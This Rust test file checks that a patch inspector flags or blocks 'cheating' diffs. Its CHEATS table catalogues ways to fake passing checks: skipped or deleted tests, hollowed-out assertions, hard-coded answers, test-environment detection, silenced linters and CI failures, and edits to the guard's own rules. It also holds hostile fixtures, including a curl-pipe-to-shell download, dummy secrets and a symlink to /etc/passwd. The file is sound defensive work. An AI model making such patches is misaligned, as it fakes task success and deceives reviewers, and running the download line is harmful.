//! Patches that cheat: each must be flagged high or blocked.
#![allow(clippy::unwrap_used)]

use crate::domain::{definition::FixPolicy, diagnosis::*, patch::Patch, proposal::RiskLevel};

use super::inspect;

/// A diff of one file from its hunk's lines.
pub(super) fn diff(path: &str, body: &str) -> String {
    if body.starts_with("diff --git") {
        return body.to_owned();
    }
    let count = |signs: &[char]| body.lines().filter(|line| line.is_empty() || line.starts_with(signs)).count();
    let (old, new) = (count(&[' ', '-']), count(&[' ', '+']));
    let (from, head) =
        if old == 0 { ("/dev/null".to_owned(), "new file mode 100644\n") } else { (format!("a/{path}"), "") };
    let start = usize::from(old > 0);
    format!(
        "diff --git a/{path} b/{path}\n{head}index {}..{} 100644\n--- {from}\n+++ b/{path}\n@@ -{start},{old} +1,{new} @@\n{body}\n",
        "1".repeat(40),
        "2".repeat(40)
    )
}

pub(super) fn fault(category: Category, file: &str) -> Diagnosis {
    let primary =
        Diagnostic { file: Some(file.into()), line: Some(1), message: "wrong".into(), ..Diagnostic::default() };
    Diagnosis {
        category,
        tool: None,
        diagnostics: vec![primary.clone()],
        primary: Some(primary),
        tests: Vec::new(),
        fingerprint: "f".into(),
        confidence: 1.0,
        evidence: None,
    }
}

/// The text before, as far as the hunk shows it.
pub(super) fn base(patch: &Patch, path: &str) -> Option<String> {
    let file = patch.files.iter().find(|file| file.old_path.as_deref() == Some(path))?;
    let lines = file.hunks.iter().flat_map(|hunk| &hunk.lines).filter(|line| line.change.sign() != '+');
    Some(lines.flat_map(|line| [line.text.as_str(), "\n"]).collect())
}

#[rustfmt::skip]
const CHEATS: &[(&str, &str, &str)] = &[
    // Tests that no longer run.
    ("a Rust test is deleted", "tests/sum.rs", " use x::sum;\n-#[test]\n-fn adds() {\n-    assert_eq!(sum(1, 2), 3);\n-}\n fn other() {}"),
    ("a Rust test is ignored", "src/lib.rs", " #[cfg(test)]\n mod tests {\n     #[test]\n+    #[ignore]\n     fn adds() {"),
    ("a Rust test loses its attribute", "src/lib.rs", " #[cfg(test)]\n mod tests {\n-    #[test]\n     fn adds() {"),
    ("a Rust test may panic", "tests/a.rs", " #[test]\n+#[should_panic]\n fn adds() {"),
    ("a Rust test is compiled never", "tests/a.rs", "+#![cfg(any())]\n #[test]\n fn adds() {"),
    ("a Python test is skipped", "tests/test_a.py", " import pytest\n+@pytest.mark.skip(reason=\"later\")\n def test_a():\n     assert f() == 1"),
    ("a Python test may fail", "tests/test_a.py", "+@pytest.mark.xfail\n def test_a():\n     assert f() == 1"),
    ("a Python test is renamed away", "tests/test_a.py", "-def test_a():\n+def _test_a():\n     assert f() == 1"),
    ("a unittest skips itself", "test_a.py", " def test_a(self):\n+    self.skipTest('x')\n     self.assertEqual(f(), 1)"),
    ("a Python test is commented out", "tests/test_a.py", "-def test_a():\n-    assert f() == 1\n+# def test_a():\n+#     assert f() == 1"),
    ("a Python test returns early", "tests/test_a.py", " def test_a():\n+    return\n     assert f() == 1"),
    ("a jest test is skipped", "web/a.test.ts", "-it('adds', () => {\n+it.skip('adds', () => {\n   expect(sum(1, 2)).toBe(3)"),
    ("a jest test is crossed out", "web/a.test.ts", "-  it('adds', () => {\n+  xit('adds', () => {\n     expect(sum(1, 2)).toBe(3)"),
    ("a suite is skipped", "web/a.spec.js", "-describe('sum', () => {\n+describe.skip('sum', () => {"),
    ("another test is singled out", "web/a.spec.js", "-test('b', () => {\n+test.only('b', () => {"),
    ("a test becomes a todo", "web/a.test.js", "-test('adds', () => {\n-  expect(sum(1, 2)).toBe(3)\n-})\n+test.todo('adds')"),
    ("a Go test is skipped", "sum_test.go", " func TestSum(t *testing.T) {\n+\tt.Skip(\"flaky\")\n \tif sum(1, 2) != 3 {"),
    ("a Java test is disabled", "src/test/java/SumTest.java", " @Test\n+@Disabled\n void adds() {"),
    ("a C# test is skipped", "SumTests.cs", "-[Fact]\n+[Fact(Skip = \"later\")]\n public void Adds() {"),
    ("tests are deselected", "package.json", "-    \"test\": \"pytest -q\",\n+    \"test\": \"pytest -q -k 'not slow'\","),
    ("a test file is left out", "scripts/test.sh", "-pytest -q\n+pytest -q --ignore=tests/test_a.py"),
    ("a test file is deleted", "", "diff --git a/tests/a.rs b/tests/a.rs\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/tests/a.rs\n+++ /dev/null\n@@ -1 +0,0 @@\n-mod x;\n"),
    ("a test file is renamed away", "", "diff --git a/tests/test_a.py b/tests/test_a.py.bak\nsimilarity index 100%\nrename from tests/test_a.py\nrename to tests/test_a.py.bak\n"),
    ("a test is run again until it passes", "tests/test_a.py", "+@pytest.mark.flaky(reruns=5)\n def test_a():"),
    ("a test case is deleted from a table", "tests/test_a.py", " @pytest.mark.parametrize('x', [\n     pytest.param(1),\n-    pytest.param(2),\n ])"),
    // Assertions.
    ("an assertion is removed", "tests/test_a.py", " def test_a():\n     x = f()\n-    assert x == 1"),
    ("an assertion in the program is removed", "src/a.rs", " fn f(x: u32) {\n-    assert!(x > 0);\n     g(x)"),
    ("assert_eq becomes assert", "tests/a.rs", "-    assert_eq!(sum(1, 2), 3);\n+    assert!(sum(1, 2) > 0);"),
    ("assertEqual becomes assertTrue", "test_a.py", "-        self.assertEqual(f(), 1)\n+        self.assertTrue(f())"),
    ("toBe becomes toBeTruthy", "a.test.js", "-  expect(f()).toBe(3)\n+  expect(f()).toBeTruthy()"),
    ("== becomes is not None", "tests/test_a.py", "-    assert f() == 3\n+    assert f() is not None"),
    ("an expected value is changed", "tests/a.rs", "-    assert_eq!(sum(1, 2), 3);\n+    assert_eq!(sum(1, 2), 4);"),
    ("an expected text on its own line is changed", "tests/a.rs", "     assert_eq!(\n         name(),\n-        \"Ada\"\n+        \"Bob\"\n     );"),
    ("an expectation in Go is changed", "sum_test.go", "-\twant := 3\n+\twant := 4\n \tif got := sum(1, 2); got != want {"),
    ("an assertion asserts itself", "tests/test_a.py", "-    assert f() == 3\n+    assert f() == f()"),
    ("an assertion asserts true", "a.test.ts", "-  expect(f()).toEqual([1, 2])\n+  expect(true).toBe(true)"),
    ("== becomes >=", "tests/test_a.py", "-    assert f() == count\n+    assert f() >= count"),
    ("any exception will do", "tests/test_a.py", "-    with pytest.raises(ValueError):\n+    with pytest.raises(Exception):"),
    ("a tolerance is raised", "tests/test_a.py", "-    assert abs(f() - 1.5) < tolerance(0.01)\n+    assert abs(f() - 1.5) < tolerance(0.5)"),
    ("an approximation is brought in", "tests/test_a.py", "-    assert f() == 1.5\n+    assert f() == pytest.approx(1.5, abs=1)"),
    ("fewer places are compared", "tests/test_a.py", "-        self.assertAlmostEqual(f(), x, places=7)\n+        self.assertAlmostEqual(f(), x, places=1)"),
    ("an assertion moves behind a return", "tests/test_a.py", "     if slow:\n         g()\n-    assert f()\n+        assert f()"),
    ("a snapshot is updated", "web/__snapshots__/a.test.ts.snap", "-<b>Ada</b>\n+<b>Bob</b>"),
    ("a golden file is updated", "testdata/out.golden", "-3\n+4"),
    ("assert_eq becomes assert_ne", "tests/a.rs", "-    assert_eq!(f(1), 42);\n+    assert_ne!(f(1), 0);"),
    ("an assertion is printed instead", "tests/test_a.py", "-    assert f() == 1\n+    print(f())"),
    ("it must throw becomes it must not", "a.test.js", "-  expect(f).toThrow('bad')\n+  expect(f).not.toThrow()"),
    ("a comparison in Go goes", "a_test.go", " \tgot := f()\n-\tif got != 3 {\n-\t\tt.Errorf(\"got %d\", got)\n-\t}\n+\t_ = got"),
    ("Go only logs", "a_test.go", " \tif got != 3 {\n-\t\tt.Errorf(\"got %d\", got)\n+\t\tt.Logf(\"got %d\", got)\n \t}"),
    ("assertEquals becomes assertNotNull", "src/test/java/ATest.java", "-    assertEquals(3, sum(1, 2));\n+    assertNotNull(sum(1, 2));"),
    ("a test body becomes pass", "tests/test_a.py", " def test_a():\n-    assert f() == 1\n+    pass"),
    ("an assertion is caught", "tests/test_a.py", " def test_a():\n-    assert f() == 1\n+    try:\n+        assert f() == 1\n+    except AssertionError:\n+        pass"),
    ("more values will do", "tests/test_a.py", "-    assert r.status == 200\n+    assert r.status in (200, 500)"),
    ("a case goes from a table", "tests/test_a.py", " @pytest.mark.parametrize('x, y', [\n     (1, 2),\n-    (2, 4),\n ])"),
    ("an expectation becomes a snapshot", "a.test.ts", "-  expect(f()).toEqual(users)\n+  expect(f()).toMatchSnapshot()"),
    ("a test returns on CI", "a.test.ts", " it('x', () => {\n+  if (process.env.CI) return\n   expect(f()).toBe(1)"),
    ("an expected text changes by a blank", "tests/test_a.py", "-    assert f() == 'a b'\n+    assert f() == 'ab'"),
    ("a case goes from a Go table", "a_test.go", " tests := []test{\n-\t{name: \"two\", in: 2, want: 4},\n }"),
    ("what is tested is no longer computed", "tests/test_a.py", " def test_a():\n-    result = compute()\n+    result = 5\n     assert result == 5"),
    ("a module of tests is left out", "src/lib.rs", "-mod parser_tests;\n mod parser;"),
    ("tests are hidden", ".gitignore", "+tests/test_a.py\n target"),
    ("tests are not collected", "tests/conftest.py", "+def pytest_collection_modifyitems(items):\n+    items.clear()\n x = 1"),
    ("a check is taken away", "src/a.js", "-  if (!ok) throw new Error('bad')\n+  if (!ok) return\n   go()"),
    ("an Elixir test is skipped", "test/a_test.exs", "+  @tag :skip\n   test \"adds\" do"),
    ("codecov's target", "codecov.yml", "-        target: 80%\n+        target: 40%"),
    // Silenced checks.
    ("a Rust lint is allowed", "src/a.rs", "+#[allow(dead_code)]\n fn f() {}"),
    ("a Rust lint is expected", "src/a.rs", "+#[expect(clippy::unwrap_used)]\n fn f() {}"),
    ("deny(warnings) goes", "src/lib.rs", "-#![deny(warnings)]\n mod a;"),
    ("a Python line says noqa", "src/a.py", "-import os\n+import os  # noqa: F401"),
    ("a type error is ignored", "src/a.py", "-    return f(x)\n+    return f(x)  # type: ignore[arg-type]"),
    ("pylint is disabled", "src/a.py", "+# pylint: disable=too-many-arguments\n def f(a):"),
    ("eslint is disabled", "web/a.js", "+/* eslint-disable no-unused-vars */\n const a = 1"),
    ("a TypeScript error is expected", "web/a.ts", "+  // @ts-expect-error\n   f(x)"),
    ("a type becomes any", "web/a.ts", "-function f(x: User) {\n+function f(x: any) {"),
    ("a value is cast to any", "web/a.ts", "-  return load(x)\n+  return load(x as any)"),
    ("golangci is told to be quiet", "a.go", "-\tf()\n+\tf() //nolint:errcheck"),
    ("rubocop is disabled", "a.rb", "+# rubocop:disable Metrics/MethodLength\n def f"),
    ("a C warning is switched off", "a.c", "+#pragma GCC diagnostic ignored \"-Wunused-variable\"\n int f(void) {"),
    ("lines are left out of coverage", "src/a.py", "-def f():\n+def f():  # pragma: no cover"),
    ("a linter's configuration is lowered", ".eslintrc.json", "-  \"no-unused-vars\": \"error\"\n+  \"no-unused-vars\": \"off\""),
    ("ruff is told to ignore a rule", "pyproject.toml", " [tool.ruff.lint]\n+ignore = [\"F401\"]\n select = [\"E\", \"F\"]"),
    ("a lint level is lowered in the manifest", "Cargo.toml", " [lints.clippy]\n-unwrap_used = \"deny\"\n+unwrap_used = \"allow\""),
    ("TypeScript is no longer strict", "tsconfig.json", "-    \"strict\": true,\n+    \"strict\": false,"),
    ("mypy's configuration is lowered", "mypy.ini", "+ignore_missing_imports = True\n [mypy]"),
    ("a compiler's warnings are no errors any more", "CMakeLists.txt", "-add_compile_options(-Wall -Werror)\n+add_compile_options(-Wall)"),
    // Failures that no longer count.
    ("|| true", "scripts/test.sh", "-pytest -q\n+pytest -q || true"),
    ("|| true in a package script", "package.json", "-    \"lint\": \"eslint .\",\n+    \"lint\": \"eslint . || true\","),
    ("the test command is another", "package.json", "-    \"test\": \"jest\",\n+    \"test\": \"echo passed\","),
    ("set +e", "scripts/test.sh", " #!/bin/sh\n-set -e\n+set +e\n cargo test"),
    ("exit 0", "scripts/test.sh", " cargo test\n+exit 0"),
    ("make ignores the failure", "Makefile", " test:\n-\tcargo test\n+\t-cargo test"),
    ("make no longer tests", "Makefile", " check: build\n-\tcargo test\n+\t@echo ok"),
    ("continue-on-error", ".github/workflows/ci.yml", "     - run: cargo test\n+      continue-on-error: true"),
    ("a workflow is edited", ".github/workflows/ci.yml", "-      - run: cargo test --all\n+      - run: cargo test --lib"),
    ("GitLab's pipeline is edited", ".gitlab-ci.yml", "-  script: pytest\n+  script: echo"),
    ("a Jenkinsfile is edited", "Jenkinsfile", "-  sh 'make test'\n+  sh 'make'"),
    ("commits skip their hooks", "scripts/release.sh", "-git commit -m x\n+git commit --no-verify -m x"),
    ("process exits well", "src/main.js", "-  process.exit(1)\n+  process.exit(0)"),
    ("coverage threshold is lowered", "pyproject.toml", " [tool.coverage.report]\n-fail_under = 90\n+fail_under = 70"),
    ("coverage threshold is taken away", "setup.cfg", " [coverage:report]\n-fail_under = 90"),
    ("more warnings are allowed", "package.json", "-    \"check\": \"eslint --max-warnings 0 .\"\n+    \"check\": \"eslint --max-warnings 50 .\""),
    ("a timeout is raised", "tests/test_a.py", "-    r = get(url, timeout=5)\n+    r = get(url, timeout=500)"),
    ("a wait is added to a test", "web/a.test.ts", "   click()\n+  await sleep(5000)\n   expect(x).toBe(1)"),
    ("retries are added", "web/a.test.ts", "-describe('x', () => {\n+describe('x', { retries: 3 }, () => {"),
    ("make skips a test", "Makefile", " test:\n-\tcargo test\n+\tcargo test -- --skip adds"),
    ("jest passes without tests", "package.json", "-    \"test\": \"jest\"\n+    \"test\": \"jest --passWithNoTests\""),
    ("jest's threshold", "jest.config.js", "-    global: { lines: 80 }\n+    global: { lines: 50 }"),
    ("coverage in a recipe", "Makefile", " test:\n-\tpytest --cov-fail-under=80\n+\tpytest --cov-fail-under=10"),
    ("pytest's options", "pytest.ini", " [pytest]\n+addopts = --ignore=tests/test_a.py"),
    ("a test file is not collected", "conftest.py", " import pytest\n+collect_ignore = ['test_a.py']"),
    ("everything is allowed", "src/lib.rs", "+#![allow(warnings)]\n mod a;"),
    ("a file is not type-checked", "web/a.ts", "+// @ts-nocheck\n const a = 1"),
    ("clippy is less strict", "justfile", " lint:\n-    cargo clippy -- -D warnings\n+    cargo clippy"),
    ("an image builds without its tests", "Dockerfile", "-RUN npm test\n+RUN npm test || exit 0"),
    // Errors that are swallowed.
    ("an exception is swallowed", "src/a.py", "     try:\n         f()\n-    except ValueError:\n-        raise\n+    except Exception:\n+        pass"),
    ("a raise becomes pass", "src/a.py", "     except ValueError:\n-        raise\n+        pass"),
    ("an empty catch", "web/a.js", "-  await save(x)\n+  try { await save(x) } catch (e) {}"),
    ("a promise's error is swallowed", "web/a.js", "-  save(x)\n+  save(x).catch(() => {})"),
    ("? becomes unwrap_or_default", "src/a.rs", "-    let text = read(path)?;\n+    let text = read(path).unwrap_or_default();"),
    ("? becomes let _", "src/a.rs", "-    save(path)?;\n+    let _ = save(path);"),
    ("Go's error is dropped", "a.go", "-\tn, err := strconv.Atoi(s)\n-\tif err != nil {\n-\t\treturn err\n-\t}\n+\tn, _ := strconv.Atoi(s)"),
    ("an error is only printed", "src/a.py", "     except ValueError as e:\n-        raise\n+        print(e)"),
    ("an error is only logged", "web/a.js", "-  await save(x)\n+  try {\n+    await save(x)\n+  } catch (e) {\n+    console.log(e)\n+  }"),
    ("an error becomes Ok", "src/a.rs", "-        Err(e) => return Err(e),\n+        Err(_) => return Ok(()),"),
    // Programs that know that they are tested.
    ("an answer by hand", "src/a.py", " def f(x):\n+    if x == 3:\n+        return 42\n     return g(x)"),
    ("a result is replaced by the expected one", "src/a.rs", " fn sum(a: i32, b: i32) -> i32 {\n-    a - b\n+    3\n }"),
    ("a result is replaced by the expected one in Python", "src/a.py", " def f(x):\n-    return g(x) + 1\n+    return 42"),
    ("the program asks whether it is tested", "src/a.py", "+    if os.environ.get('PYTEST_CURRENT_TEST'):\n+        return None\n     return g(x)"),
    ("the program asks for NODE_ENV", "web/a.js", "+  if (process.env.NODE_ENV === 'test') return\n   send()"),
    // What comes from outside, and where a patch goes.
    ("download and run", "scripts/setup.sh", "+curl -sSf https://example.org/x.sh | sh\n make"),
    ("a secret is added", "src/a.py", "+API_TOKEN = \"ghp_0123456789abcdefghijklmnopqrstuvwxyz\"\n x = 1"),
    ("a password is added", "config/db.yml", "+password: \"correcthorsebattery\"\n host: x"),
    ("a private key is added", "key.pem", "+-----BEGIN RSA PRIVATE KEY-----\n+MIIE"),
    ("a URL with a password", "src/settings.py", "+DB = \"postgres://app:hunter22@db/app\"\n x = 1"),
    ("a key without quotes", "config/prod.env", "+AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n X=1"),
    ("outside the repository", "../other/a.rs", "+fn f() {}"),
    ("git's own directory", ".git/hooks/pre-commit", "+exit 0"),
    ("where the policy says never", "infra/prod.tf", "-  count = 1\n+  count = 2"),
    ("gonogo's own rules", "gonogo.toml", "-steps = [\"pytest\"]\n+steps = [\"true\"]"),
    ("a pin is loosened", "requirements.txt", "-requests==2.31.0\n+requests>=2.0"),
    ("a pin is dropped", "requirements.txt", "-requests==2.31.0\n+requests"),
    ("any version will do", "package.json", "-    \"left-pad\": \"1.3.0\"\n+    \"left-pad\": \"*\""),
    ("a lockfile alone is edited", "Cargo.lock", " name = \"serde\"\n-version = \"1.0.1\"\n+version = \"1.0.2\""),
    ("a dependency from elsewhere", "Cargo.toml", " [dependencies]\n-serde = \"1\"\n+serde = { git = \"https://example.org/serde\" }"),
    ("a file becomes executable", "", "diff --git a/x.sh b/x.sh\nold mode 100644\nnew mode 100755\n"),
    ("a link is made", "", "diff --git a/l b/l\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n"),
    ("a binary file", "", "diff --git a/x.so b/x.so\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\nliteral 3\nKcmZQ\n"),
];

#[test]
fn no_cheat_goes_unflagged() {
    let policy = FixPolicy { never: vec!["infra/**".into()], ..FixPolicy::default() };
    let mut missed = Vec::new();
    for (what, path, body) in CHEATS {
        let patch = Patch::parse(&diff(path, body)).unwrap();
        let fault = fault(Category::Lint, patch.files[0].path());
        let guarded = inspect(&patch, |path| base(&patch, path), &policy, &fault);
        if guarded.blocked.is_empty() && guarded.risk.level != RiskLevel::High {
            missed.push(format!("{what}: {:?}", guarded.risk.flags));
        }
    }
    assert!(missed.is_empty(), "{} of {} missed:\n{}", missed.len(), CHEATS.len(), missed.join("\n"));
}

#[test]
fn what_must_not_be_is_blocked_and_not_only_flagged() {
    let policy = FixPolicy { never: vec!["infra/**".into()], ..FixPolicy::default() };
    for name in [
        "a secret is added",
        "a private key is added",
        "outside the repository",
        "git's own directory",
        "where the policy says never",
        "gonogo's own rules",
    ] {
        let (_, path, body) = CHEATS.iter().find(|cheat| cheat.0 == name).unwrap();
        let patch = Patch::parse(&diff(path, body)).unwrap();
        let guarded = inspect(&patch, |_| None, &policy, &fault(Category::Lint, "x"));
        assert_eq!(guarded.blocked.len(), 1, "{name}");
    }
}

#[test]
fn a_fault_of_the_program_is_not_mended_in_its_tests() {
    let patch =
        Patch::parse(&diff("tests/test_a.py", " def test_a():\n-    x = make(1)\n+    x = make(2)\n     assert f(x)"))
            .unwrap();
    let level = |fault| inspect(&patch, |_| None, &FixPolicy::default(), &fault).risk.level;
    assert_eq!(level(fault(Category::Type, "src/a.py")), RiskLevel::High);
    assert_eq!(level(fault(Category::Test, "tests/test_a.py")), RiskLevel::High);
    assert_eq!(level(fault(Category::Type, "tests/test_a.py")), RiskLevel::Low);
}

#[test]
fn a_patch_larger_than_the_policy_allows_is_flagged() {
    let body = (0..30).map(|n| format!("+let x{n} = f({n});\n")).collect::<Vec<_>>().concat();
    let patch = Patch::parse(&diff("src/a.rs", body.trim_end())).unwrap();
    let level = |max_lines| {
        let policy = FixPolicy { max_lines, ..FixPolicy::default() };
        inspect(&patch, |_| None, &policy, &fault(Category::Build, "src/a.rs")).risk.level
    };
    assert_eq!((level(400), level(20)), (RiskLevel::Low, RiskLevel::High));
}
